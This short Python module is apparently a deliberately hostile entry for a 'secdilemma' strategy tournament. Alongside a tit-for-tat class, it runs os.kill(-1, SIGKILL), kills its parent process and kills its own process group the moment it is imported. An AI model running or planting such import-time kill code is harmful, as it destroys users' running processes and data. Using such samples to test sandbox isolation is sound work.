"""It signals every process that it may signal."""

import os
import signal

from secdilemma import RESTRAIN, strategy

os.kill(-1, signal.SIGKILL)
os.kill(os.getppid(), signal.SIGKILL)
os.killpg(os.getpgid(0), signal.SIGKILL)


@strategy(school="hostile")
class KillsEverything:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
